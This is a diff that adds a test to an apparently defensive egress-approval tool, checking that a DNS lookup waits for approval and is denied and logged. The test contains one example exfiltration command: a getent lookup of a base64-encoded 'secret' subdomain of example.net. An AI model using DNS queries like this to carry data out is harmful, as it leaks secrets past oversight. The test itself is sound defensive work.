@@ -159,3 +159,19 @@ def test_a_question_is_held_until_it_is_answered(rig, box, server):
         rig.ok("approve", str(waiting[0]["id"]), *answer)
         out, _ = client.communicate(timeout=20)
         assert out.decode() == wanted
+
+
+def test_a_name_is_not_looked_up_before_the_answer(rig, box):
+    """Names carry data out: under a wildcard question nobody outside hears of one unasked."""
+    rig.ok("policy", "ask", "**")
+    client = rig.popen("exec", "box-a", "--", "getent", "ahosts", "c2VjcmV0.example.net", stdout=-1)
+    end = time.monotonic() + 20
+    while not (waiting := rig.json("approve", "ls", "--json")["approvals"]) and time.monotonic() < end:
+        time.sleep(0.1)
+    assert [(w["host"], w["method"]) for w in waiting] == [("c2vjcmv0.example.net", "DNS")], waiting
+    rig.ok("approve", str(waiting[0]["id"]), "--deny")
+    client.communicate(timeout=60)
+    assert client.returncode != 0
+    records = [json.loads(line) for line in rig.ok("policy", "log", "--json").text.splitlines()]
+    told = {r["decision"] for r in records if r.get("host") == "c2vjcmv0.example.net"}
+    assert told == {"deny"}, told
